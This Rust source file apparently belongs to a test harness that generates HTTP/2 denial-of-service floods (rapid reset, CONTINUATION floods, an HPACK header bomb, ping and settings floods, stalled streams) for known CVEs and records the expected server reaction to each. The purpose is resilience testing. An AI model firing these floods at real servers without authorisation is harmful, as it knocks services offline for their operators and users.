//! Floods of HTTP/2 frames (CVE-2023-44487, 2024-27316, 2025-8671, 2019-95xx, 2016-6581), each piece by piece, for tests and
//! measurements. They know nothing of what becomes of them.

use std::io;

use crate::h2frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block,
};

/// A request for `path`.
type Fields<'a> = [(&'a [u8], &'a [u8]); 4];

type Send = Box<dyn Fn(&mut Frames, u32) -> io::Result<()> + std::marker::Send + Sync>;

/// What becomes of a flood at best.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// The server must end the connection.
    Ended,
    /// The server may also take it all, if that costs little.
    Absorbed,
}

/// One flood.
pub struct Flood {
    pub what: &'static str,
    /// Pieces on one connection at most.
    pub pieces: u32,
    pub fate: Fate,
    /// The connection is held when all is sent.
    pub hold: bool,
    send: Send,
}

impl Flood {
    /// Sends piece `at`.
    pub fn send(&self, frames: &mut Frames, at: u32) -> io::Result<()> {
        (self.send)(frames, at)
    }
}

fn flood(
    what: &'static str,
    pieces: u32,
    fate: Fate,
    send: impl Fn(&mut Frames, u32) -> io::Result<()> + std::marker::Send + Sync + 'static,
) -> Flood {
    Flood { what, pieces, fate, hold: false, send: Box::new(send) }
}

fn get(path: &'static [u8]) -> Fields<'static> {
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"a")]
}

/// The stream of a piece.
fn stream(at: u32) -> u32 {
    at * 2 + 1
}

/// All of them. `/pub/x` is answered with a few bytes, `/pub/large` with some MiB.
pub fn all() -> Vec<Flood> {
    let mut all = resets();
    all.extend(headers());
    all.extend(small_frames());
    all.extend(streams());
    all
}

/// Streams that end early, by the client or by what it makes the server do.
fn resets() -> Vec<Flood> {
    let request = block(&get(b"/pub/x"));
    let begun = {
        let request = request.clone();
        move |frames: &mut Frames, at: u32| frames.send(HEADERS, END_HEADERS, stream(at), &request)
    };
    let with = |what, kind: u8, payload: &'static [u8]| {
        let begun = begun.clone();
        flood(what, 10_000, Fate::Ended, move |frames, at| {
            begun(frames, at)?;
            frames.send(kind, 0, stream(at), payload)
        })
    };
    let ended = request.clone();
    let sized = block(&[&get(b"/pub/x")[..], &[(b"content-length", b"0")]].concat());
    let own = begun.clone();
    vec![
        flood("rapid reset", 10_000, Fate::Ended, move |frames, at| {
            frames.send(HEADERS, END_HEADERS | END_STREAM, stream(at), &ended)?;
            frames.send(RST_STREAM, 0, stream(at), &8u32.to_be_bytes())
        }),
        // Each of these is an error of the stream, so that the server resets it.
        with("made you reset: window of zero", WINDOW_UPDATE, &[0; 4]),
        with("made you reset: window overflow", WINDOW_UPDATE, &[0x7f, 0xff, 0xff, 0xff]),
        with("made you reset: priority too short", PRIORITY, &[0; 4]),
        flood("made you reset: self-dependency", 10_000, Fate::Ended, move |frames, at| {
            own(frames, at)?;
            frames.send(PRIORITY, 0, stream(at), &[&stream(at).to_be_bytes()[..], &[16]].concat())
        }),
        flood("made you reset: more than announced", 10_000, Fate::Ended, move |frames, at| {
            frames.send(HEADERS, END_HEADERS, stream(at), &sized)?;
            frames.send(DATA, 0, stream(at), b"x")
        }),
    ]
}

/// Header blocks without end, and small ones that become large.
fn headers() -> Vec<Flood> {
    let request = block(&get(b"/pub/x"));
    let field = [0, 1, b'x', 1, b'y'].repeat(2_000);
    // A field of 4 KB in the dynamic table, then thousands of references of one byte.
    let mut bomb = request.clone();
    bomb.extend([0x40, 1, b'x', 127, 0x81, 0x1e]);
    bomb.extend([b'a'; 4_000]);
    let references = [request.clone(), vec![0xbe; 16_000]].concat();
    let (first, second) = (request.clone(), request);
    vec![
        flood("continuation", 3_000, Fate::Ended, move |frames, at| match at {
            0 => frames.send(HEADERS, END_STREAM, 1, &first),
            _ => frames.send(CONTINUATION, 0, 1, &field),
        }),
        flood("empty continuation", 50_000, Fate::Ended, move |frames, at| match at {
            0 => frames.send(HEADERS, END_STREAM, 1, &second),
            _ => frames.send(CONTINUATION, 0, 1, &[]),
        }),
        flood("header bomb", 20, Fate::Absorbed, move |frames, at| {
            let block = if at == 0 { &bomb } else { &references };
            frames.send(HEADERS, END_HEADERS | END_STREAM, stream(at), block)
        }),
    ]
}

/// Frames that want an answer, or nothing.
fn small_frames() -> Vec<Flood> {
    let request = block(&get(b"/pub/x"));
    let other = request.clone();
    vec![
        flood("settings", 50_000, Fate::Absorbed, |frames, _| frames.send(SETTINGS, 0, 0, &[])),
        flood("ping", 50_000, Fate::Absorbed, |frames, _| frames.send(PING, 0, 0, &[0; 8])),
        flood("priority", 50_000, Fate::Absorbed, |frames, at| frames.send(PRIORITY, 0, stream(at), &[0, 0, 0, 0, 1])),
        flood("empty data", 50_000, Fate::Absorbed, move |frames, at| match at {
            0 => frames.send(HEADERS, END_HEADERS, 1, &request),
            _ => frames.send(DATA, 0, 1, &[]),
        }),
        flood("window updates", 50_000, Fate::Absorbed, move |frames, at| match at {
            0 => frames.send(HEADERS, END_HEADERS, 1, &other),
            _ => frames.send(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        }),
    ]
}

/// Streams that stay.
fn streams() -> Vec<Flood> {
    let (request, large) = (block(&get(b"/pub/x")), block(&get(b"/pub/large")));
    let stall = flood("closed window", 101, Fate::Absorbed, move |frames, at| match at {
        // INITIAL_WINDOW_SIZE 0: nothing of a body may be sent.
        0 => frames.send(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
        _ => frames.send(HEADERS, END_HEADERS | END_STREAM, stream(at), &large),
    });
    vec![
        flood("streams without end", 10_000, Fate::Absorbed, move |frames, at| {
            frames.send(HEADERS, END_HEADERS, stream(at), &request)
        }),
        Flood { hold: true, ..stall },
    ]
}
